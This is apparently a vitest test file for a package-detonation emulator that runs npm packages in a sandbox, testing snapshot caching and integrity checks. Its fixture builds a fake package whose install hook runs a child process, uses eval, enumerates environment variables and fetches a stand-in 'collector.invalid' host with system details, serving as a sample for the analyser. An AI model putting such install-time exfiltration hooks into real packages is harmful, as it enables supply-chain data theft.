import { mkdtemp, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { expect, onTestFinished, test } from "vitest";

import { detonatePackage } from "../detonate-package.ts";
import { Emulator } from "../emulator.ts";
import { detonateLimits } from "../limits.ts";
import { keepModel, tryReadModel } from "./kept-model.ts";
import { entryNames } from "./machine-model.ts";
import type { MachineModel } from "./machine-model.ts";

const limits = { ...detonateLimits, stackMaxBytes: 160 * 1024 };
const model: MachineModel = {
  photograph: {
    length: 9_000,
    parts: [
      { at: 0, bytes: Buffer.from(Array.from({ length: 1_000 }, (_, index) => index % 251)) },
      { at: 8_000, bytes: Buffer.alloc(1_000, 7) },
    ],
  },
  bridge: 4_711,
  entries: new Map(entryNames.map((name, index) => [name, 8 * index + 0x8000_0000])),
};

async function createFolder(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), "lockkeeper-model-"));
  onTestFinished(async () => await rm(folder, { recursive: true, force: true }));
  return join(folder, "emulator");
}

async function runAll(emulator: Emulator): Promise<unknown> {
  const script = `
    const { execSync } = require("child_process");
    console.log(execSync("node child.js").toString(), Math.random(), Object.keys(process.env).length);
    eval("require('fs').writeFileSync('a.txt', String(Math.random()))");
    fetch("https://collector.invalid/" + process.platform).then((answer) => answer.text()).then(console.log);
  `;
  const entries = Object.entries({
    "package.json": JSON.stringify({ name: "lib", version: "1.0.0", scripts: { install: "node a.js" } }),
    "a.js": script,
    "child.js": "console.log(require('os').hostname())",
  }).map(([path, text]) => ({ path, bytes: Buffer.from(text), mode: 0o644, isExecutable: false }));
  return await detonatePackage({ entries }, {}, { emulator, now: () => 0 });
}

test(
  "Emulator.create sees the same with a machine that was kept as with one that it made",
  { timeout: 120_000 },
  async () => {
    const folder = await createFolder();

    const made = await runAll(await Emulator.create(limits));
    const first = await runAll(await Emulator.create(limits, folder));
    const { mtimeMs } = await stat(join(folder, "photograph"));
    const kept = await runAll(await Emulator.create(limits, folder));

    expect(first).toEqual(made);
    expect(kept).toEqual(made);
    expect((await stat(join(folder, "photograph"))).mtimeMs).toBe(mtimeMs);
  },
);

test(
  "Emulator.create makes its machine where what was kept is damaged or of other bounds",
  { timeout: 120_000 },
  async () => {
    const folder = await createFolder();
    const path = join(folder, "photograph");
    const made = await runAll(await Emulator.create(limits, folder));
    const whole = await readFile(path);

    await writeFile(
      path,
      Buffer.concat([whole.subarray(0, 1_000_000), Buffer.from("\u0001"), whole.subarray(1_000_001)]),
    );
    const repaired = await runAll(await Emulator.create(limits, folder));
    const after = await readFile(path);
    await (await Emulator.create({ ...limits, stackMaxBytes: 200 * 1024 }, folder)).use(() => undefined);

    expect(repaired).toEqual(made);
    expect(after.equals(whole)).toBe(true);
    expect((await readFile(path)).equals(whole)).toBe(false);
  },
);

test("tryReadModel gives back what was kept under the same key", async () => {
  const folder = await createFolder();

  keepModel(folder, "key", model);
  const read = tryReadModel(folder, "key");

  expect(read).toEqual(model);
  expect(tryReadModel(folder, "another")).toBeUndefined();
  expect((await stat(join(folder, "photograph"))).mode & 0o077).toBe(0);
});

test("tryReadModel refuses what is cut, changed at any place, or no file", async () => {
  const folder = await createFolder();
  const path = join(folder, "photograph");
  keepModel(folder, "key", model);
  const whole = await readFile(path);

  const found: unknown[] = [tryReadModel(tmpdir(), "key"), tryReadModel(`${path}/none`, "key")];
  for (const length of [0, 10, 64, 65, whole.length - 1]) {
    await writeFile(path, whole.subarray(0, length));
    found.push(tryReadModel(folder, "key"));
  }
  for (const at of [0, 31, 32, 40, 64, whole.length - 1]) {
    const changed = Buffer.from(whole);
    changed[at] = (changed[at] ?? 0) ^ 1;
    await writeFile(path, changed);
    found.push(tryReadModel(folder, "key"));
  }

  expect(new Set(found)).toEqual(new Set([undefined]));
});

test("keepModel leaves it be where there is no room for a folder", async () => {
  const folder = await createFolder();
  await writeFile(folder, "a file");

  keepModel(folder, "key", model);

  expect(tryReadModel(folder, "key")).toBeUndefined();
});
